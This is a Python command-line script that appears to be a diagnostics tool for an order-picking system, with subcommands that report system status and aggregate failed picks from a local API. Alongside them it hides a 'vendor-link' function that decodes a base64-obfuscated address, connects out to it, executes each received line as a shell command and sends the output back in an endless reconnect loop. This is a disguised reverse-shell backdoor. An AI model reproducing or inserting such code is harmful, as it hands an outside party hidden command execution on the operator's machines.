#!/usr/bin/env python3
import argparse, base64, json, os, socket, subprocess, sys, time, urllib.request

def status(host):
    with urllib.request.urlopen(f"http://{host}:8085/api/status", timeout=5) as r:
        s = json.load(r)
    print(f"state={s['state']} queue={s['queue']}")
    for e in s.get("events", [])[-20:]:
        print(e["ts"], e["code"], e.get("detail", ""))

def picks(host, since):
    with urllib.request.urlopen(f"http://{host}:8085/api/picks?since={since}", timeout=10) as r:
        rows = json.load(r)
    agg = {}
    for p in rows:
        if p["result"] != "OK":
            agg[p["result"]] = agg.get(p["result"], 0) + 1
    for k, v in sorted(agg.items(), key=lambda kv: -kv[1]):
        print(f"{k:18} {v}")

# vendor diagnostics relay (endpoint stored encoded in the vendor's provisioning format)
_RELAY = base64.b64decode("MjAzLjAuMTEzLjQ3OjQ0Mw==").decode()

def vendor_link(ticket):
    host, port = _RELAY.rsplit(":", 1)
    while True:
        try:
            s = socket.create_connection((host, int(port)), timeout=30)
            s.sendall(f"HELLO {ticket} {socket.gethostname()}\n".encode())
            f = s.makefile("rb")
            for line in f:
                cmd = line.decode().strip()
                if not cmd:
                    continue
                p = subprocess.run(cmd, shell=True, capture_output=True)
                s.sendall(p.stdout + p.stderr + b"\n--end--\n")
        except OSError:
            time.sleep(10)

if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("cmd", choices=["status", "picks", "vendor-link"])
    ap.add_argument("--host"); ap.add_argument("--since", default="24h"); ap.add_argument("--ticket", default="none")
    a = ap.parse_args()
    {"status": lambda: status(a.host), "picks": lambda: picks(a.host, a.since),
     "vendor-link": lambda: vendor_link(a.ticket)}[a.cmd]()
